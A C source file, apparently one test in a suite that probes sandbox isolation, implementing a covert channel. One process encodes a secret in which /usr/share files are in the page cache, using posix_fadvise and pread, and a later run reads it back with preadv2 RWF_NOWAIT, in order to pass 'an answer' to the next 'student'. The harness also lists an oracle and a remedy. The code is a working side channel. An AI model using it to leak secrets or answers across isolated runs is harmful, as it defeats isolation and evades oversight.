// SPDX-License-Identifier: MIT
/*
 * page-marks.c - bits on files that nobody may write to, and that outlive whoever set them.
 *
 * Goal: an answer passed on.
 * Means: a file's first page is in memory or it is not. posix_fadvise(2) with DONTNEED throws it out,
 * read(2) brings it in, and preadv2(2) with RWF_NOWAIT tells which, without bringing it in: 128 files
 * of /usr/share are 128 bits. No process stays, no name is made, nothing is written.
 *
 * Three copies, each in a part of the files that the name decides, and two of them are right: now and
 * then a page will not go, and other runs may be marking theirs at the same time.
 */
#include "attacks/ipc-residue/residue.h"

#include <errno.h>
#include <fts.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/uio.h>

enum { BITS = 128, COPIES = 3, FILES = 12288, PARTS = FILES / BITS, LARGEST = 1 << 20 };

static char *files[FILES];

static int by_name(const FTSENT **a, const FTSENT **b)
{
	return strcmp((*a)->fts_name, (*b)->fts_name);
}

/* The first files of /usr/share, in an order that is the same for all. Fewer parts where there are fewer. */
static unsigned list_files(void)
{
	char *top[] = { "/usr/share", NULL };
	FTS *tree = fts_open(top, FTS_PHYSICAL | FTS_NOCHDIR, by_name);
	unsigned n = 0;

	for (FTSENT *e; tree && n < FILES && (e = fts_read(tree));)
		if (e->fts_info == FTS_F && e->fts_statp->st_size > 0 &&
		    e->fts_statp->st_size < LARGEST && access(e->fts_path, R_OK) == 0)
			files[n++] = strdup(e->fts_path);
	if (tree)
		fts_close(tree);
	return n / BITS;
}

/* The files of one copy: any part, so that two runs meet in few of theirs. */
static char **part(const struct brief *b, unsigned parts, unsigned copy)
{
	unsigned hash = 2166136261u + copy;

	for (const char *c = b->name; *c; c++)
		hash = (hash ^ (unsigned char)*c) * 16777619u;
	return files + BITS * ((hash >> 12) % parts);
}

static int open_at(const char *name)
{
	int fd = open(name, O_RDONLY | O_CLOEXEC);

	if (fd >= 0)
		posix_fadvise(fd, 0, 0, POSIX_FADV_RANDOM);
	return fd;
}

/* 1: its first page is in memory; 0: it is not; -1: refused. */
static int is_in_memory(const char *name)
{
	char byte;
	struct iovec v = { &byte, 1 };
	int fd = open_at(name);
	ssize_t n = preadv2(fd, &v, 1, 0, RWF_NOWAIT);
	int bit = n == 1 ? 1 : errno == EAGAIN ? 0 : -1;

	close(fd);
	return bit;
}

static enum claim run(const struct brief *b)
{
	static const char digits[] = "0123456789abcdef";
	unsigned parts = list_files();
	char text[BITS / 4 + 1] = "";

	if (!parts)
		return failed("/usr/share: too few files");
	attempting(b);
	for (int i = 0; i < BITS; i++) {
		int ones = 0;

		for (unsigned c = 0; c < COPIES; c++) {
			int bit = is_in_memory(part(b, parts, c)[i]);

			if (bit < 0)
				return denied("preadv2(RWF_NOWAIT)");
			ones += bit;
		}
		text[i / 4] = (char)(text[i / 4] | (ones > COPIES / 2) << (3 - i % 4));
	}
	for (int i = 0; i < BITS / 4; i++)
		text[i] = digits[(int)text[i]];
	loot(text, BITS / 4);
	return CLAIM_DONE;
}

/* 0, or an errno. */
static int mark(const char *name, bool bit)
{
	char byte;
	int fd = open_at(name), r = posix_fadvise(fd, 0, 0, POSIX_FADV_DONTNEED);

	if (!r && bit && pread(fd, &byte, 1, 0) < 0)
		r = errno;
	close(fd);
	return r;
}

/* An accomplice; refused, one who keeps the work in a file. */
static enum claim victim(const struct brief *b)
{
	unsigned parts = list_files();

	for (unsigned c = 0; parts && c < COPIES; c++)
		for (int i = 0; i < BITS; i++) {
			char digit[2] = { b->secret[i / 4] };

			if (mark(part(b, parts, c)[i], strtol(digit, NULL, 16) & 8 >> i % 4))
				return keep_in_file(b);
		}
	return CLAIM_DONE;
}

const struct attack attack = {
	.effect = "an answer is passed on to the next student",
	.means = "which files of /usr/share are in memory, set by fadvise(DONTNEED), read by RWF_NOWAIT",
	.oracle = "secret:victim",
	.scene = SCENE_AFTER_VICTIM,
	.attack_id = "T1559, CWE-514, CWE-1420",
	.remedy = "refuse the two; what is left is to take a reading's time",
	.refs = (const char *const[]){ "posix_fadvise(2)", "preadv2(2), RWF_NOWAIT", NULL },
	.run = run,
	.victim = victim,
};
